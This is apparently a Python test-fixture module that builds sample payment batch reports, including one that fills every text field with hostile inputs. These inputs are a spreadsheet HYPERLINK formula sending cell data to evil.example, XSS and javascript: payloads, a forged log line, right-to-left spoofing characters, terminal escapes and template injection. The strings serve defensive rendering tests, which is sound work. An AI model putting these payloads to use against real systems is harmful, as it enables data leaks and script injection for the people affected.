"""Batch reports as values: one of each verdict, one of them full of hostile text."""

from collections.abc import Mapping
from dataclasses import replace
from decimal import Decimal

from flows.steps.batch_report import (
    APPLIED,
    BatchReport,
    Chain,
    FileLine,
    NoteLine,
    ReasonLine,
    build_chain,
    build_pushed,
)
from flows.steps.totals import Totals, add
from schemas.reasons import REASONS
from schemas.tables import CURRENCY_RATE, INVOICE_FILE, PAYMENT

HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "markup": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "link": "[pay here](javascript:alert(document.domain)) ![p](https://evil.example/p.png)",
    "forged line": "1.0\r\n2026-01-01 INFO batch complete, 0 rows with errors",
    "right to left": "\u202eexe.fdp\u202c \u2066\u05e9\u05dc\u05d5\u05dd\u2069 \u200b",
    "look-alikes": "1\u202f204\u00a0\u22125\u3000",
    "long": "9" * 200,
    "table": "a | b ` c * d _ e \\ f ~~g~~ | www.evil.example x@evil.example",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x00",
    "entity": "&lt;b&gt; &#106;avascript: {{ 7 * 7 }} {% raw %}",
    "closing": "]]>--></td></table></style></title><h1>free",
}
CURRENCIES = {"1": "EUR", "2": "USD", "3": "GBP", "4": "CHF"}

States = Mapping[str, tuple[int, str, Mapping[str, tuple[str, ...]]]]
# Rows, hash total of keys, then PaidAmount and DiscountAmount by CurrenciesId.
PAYMENTS: States = {
    "rejected": (61, "3050447", {"1": ("18204.55", "120.1"), "7": ("99.999", "0")}),
    "conflict": (4, "200058", {"2": ("1000.00", "0"), "": ("12.5", "0")}),
    "superseded": (7, "350103", {"1": ("771.00", "0.00")}),
    "stale": (3, "150011", {"3": ("40.4", "1.1")}),
    "inserted": (
        11_872,
        "593672104",
        {
            "1": ("14728390.07", "20419.93"),
            "2": ("3904417.5", "881.255"),
            "3": ("912004.31", "0"),
            "4": ("77310.0000001", "12.05"),
            "7": ("450000", "0"),
        },
    ),
    "updated": (412, "20601339", {"1": ("-5120.44", "0"), "2": ("118722.18", "40.00")}),
    "unchanged": (121, "6050991", {"2": ("30210.75", "0")}),
}


def totals(rows: int, keys: str, money: Mapping[str, tuple[str, ...]] | None = None) -> Totals:
    amounts = {
        currency: dict(zip(PAYMENT.amounts, map(Decimal, sums), strict=True))
        for currency, sums in (money or {}).items()
    }
    return Totals(rows, int(keys), amounts)


def payments(states: States) -> Chain:
    staged = {state: totals(*parts) for state, parts in states.items()}
    database = {state: staged[state] for state in APPLIED if state in staged}
    return build_chain(PAYMENT, staged, staged, database)


def rates() -> Chain:
    staged = {"rejected": totals(8, "3944"), "inserted": totals(1_434, "718032800")}
    return build_chain(CURRENCY_RATE, staged, staged, {"database": staged["inserted"]})


def invoices() -> Chain:
    staged = {"superseded": totals(2, "77"), "inserted": totals(5_120, "20971520123456789012345")}
    return build_chain(INVOICE_FILE, staged, staged, {"database": staged["inserted"]})


def reason(
    code: str, field: str, rows: int, line: int, value: str, *, file: str = "payments_2026-03.csv"
) -> ReasonLine:
    known = REASONS[code]
    record = "payment" if file.startswith("payments") else "currency_rate"
    return ReasonLine(
        record, code, field, rows, known.title, known.remedy, file, line, line - 1, value
    )


def file_line(
    name: str, record: str, digest: str, *, size: int, rows: int, rejected: int
) -> FileLine:
    return FileLine(name, record, size, digest * 32, rows, rejected, None, None)


INVOICE_FILES = file_line(
    "invoice_files_2026-03.csv", "invoice_file", "0c", size=718_204, rows=5_122, rejected=0
)


def clean() -> BatchReport:
    states = {state: PAYMENTS[state] for state in ("inserted", "unchanged")}
    return BatchReport(
        feed="payments-daily",
        content_id="5d" * 32,
        verdict="complete",
        held_because=None,
        files=(
            INVOICE_FILES,
            file_line(
                "payments_2026-03.csv.gz", "payment", "9f", size=1_204_551, rows=11_993, rejected=0
            ),
        ),
        chains=(payments(states), invoices()),
        reasons=(),
        notes=(),
        currencies=CURRENCIES,
    )


def with_errors() -> BatchReport:
    return BatchReport(
        feed="payments-daily",
        content_id="a41c" * 16,
        verdict="complete_with_errors",
        held_because=None,
        files=(
            file_line(
                "currency_rates_2026-03.csv",
                "currency_rate",
                "7e",
                size=98_114,
                rows=1_442,
                rejected=8,
            ),
            INVOICE_FILES,
            file_line(
                "payments_2026-03.csv", "payment", "9f", size=1_204_551, rows=12_480, rejected=65
            ),
            FileLine(
                "payments_2026-02_late.zip",
                None,
                4_096,
                "b2" * 32,
                0,
                0,
                "corrupt_archive",
                "the archive is broken or cut short: unexpected end of the central directory",
            ),
            FileLine(
                "plans.csv",
                None,
                None,
                None,
                0,
                0,
                "missing_column",
                "required columns are missing: PaymentPlansId, PlannedDate",
            ),
        ),
        chains=(rates(), invoices(), payments(PAYMENTS)),
        reasons=(
            reason("Number", "ExchangeRate", 5, 543, "1,0842", file="currency_rates_2026-03.csv"),
            reason("ConflictingKey", "Id", 3, 112, "4110", file="currency_rates_2026-03.csv"),
            reason("NotNull", "DebtsId", 31, 12, ""),
            reason("Number", "PaidAmount", 19, 418, "1.204,50 EUR"),
            reason("DateTime", "PaymentDate", 6, 77, "31/02/2026 10:00"),
            reason("ConflictingKey", "Id", 4, 9_402, "(50044, 7)"),
            reason("OffsetMissing", "PaymentDate", 3, 2_201, "2026-03-29T02:30:00"),
            reason("IntegerRange", "Id", 1, 12_004, "9223372036854775808"),
            reason("TooFewFields", "", 1, 5_555, ""),
        ),
        notes=(
            NoteLine(
                "payment",
                "ReferenceMissing",
                "CurrencyRatesId",
                "88120",
                14,
                "payments_2026-03.csv",
                311,
                310,
                "'CurrencyRatesId' refers to CurrencyRate 88120, which is neither delivered nor "
                "known.",
            ),
        ),
        currencies=CURRENCIES,
    )


def hostile() -> BatchReport:
    """Every place that shows delivered text shows every hostile one."""
    report = with_errors()
    texts = tuple(HOSTILE.values())
    return replace(
        report,
        feed=HOSTILE["markup"],
        content_id=HOSTILE["closing"],
        files=tuple(
            FileLine(text, None, 7, text, 0, 0, text if number % 2 else "empty_file", text)
            for number, text in enumerate(texts)
        ),
        reasons=tuple(
            ReasonLine(text, text, text, 1, text, text, text, number + 2, number + 1, text)
            for number, text in enumerate(texts)
        ),
        notes=tuple(
            NoteLine(text, text, text, text, 1, text, number + 2, number + 1, text)
            for number, text in enumerate(texts)
        ),
        currencies={str(number): text for number, text in enumerate(texts, 1)},
    )


def held() -> BatchReport:
    states: States = {
        "rejected": (900, "45000450", {"1": ("1.00", "0")}),
        "pending": (100, "5000050", {"1": ("250000.10", "99.9"), "2": ("0.30", "0")}),
    }
    return BatchReport(
        feed="payments-daily",
        content_id="77" * 32,
        verdict="held",
        held_because="900 of 1000 rows have errors (90.00%); the budget allows 5.00%",
        files=(file_line("payments.csv", "payment", "e1", size=90_210, rows=1_000, rejected=900),),
        chains=(payments(states),),
        reasons=(reason("Encoding", "", 900, 2, "M\ufffdller", file="payments.csv"),),
        notes=(),
        currencies={},
    )


def untied() -> BatchReport:
    """A payment of 10.01 EUR was read and is not staged; the database holds a cent too much."""
    report = clean()
    lost, cent = totals(1, "50001", {"1": ("10.01", "0")}), totals(0, "0", {"1": ("0.01", "0")})
    read = {state: totals(*PAYMENTS[state]) for state in ("inserted", "unchanged")}
    staged = {**read, "inserted": read["inserted"] - lost}
    held = {"database": staged["inserted"] + cent, "unchanged": staged["unchanged"]}
    chain = build_chain(PAYMENT, read, staged, held)
    return replace(report, verdict="does_not_tie", chains=(chain, *report.chains[1:]))


def pushed() -> BatchReport:
    """Two record kinds at the service: one in every state, one that ties to nothing."""
    states = {state: PAYMENTS[state] for state in ("inserted", "unchanged")}
    staged = {state: totals(*parts) for state, parts in states.items()}
    refused = totals(7, "350103", {"1": ("771.00", "0.00")})
    doubtful = totals(2, "9001", {"1": ("20.5", "0"), "7": ("1", "0")})
    applied = add(staged.values())
    sends = {
        "acknowledged": applied - refused - doubtful,
        "refused": refused,
        "in_doubt": doubtful,
    }
    lost = {"acknowledged": totals(5_119, "20971520123456789012344")}
    invoice_rows = {"inserted": totals(5_120, "20971520123456789012345")}
    return replace(
        clean(),
        verdict="does_not_tie",
        service="https://service.example/v1",
        pushed=(
            build_pushed(PAYMENT, staged, sends, planned=True),
            build_pushed(INVOICE_FILE, invoice_rows, lost, planned=True),
        ),
    )


REPORTS = {
    "complete": clean,
    "complete_with_errors": with_errors,
    "hostile": hostile,
    "held": held,
    "does_not_tie": untied,
    "pushed": pushed,
}
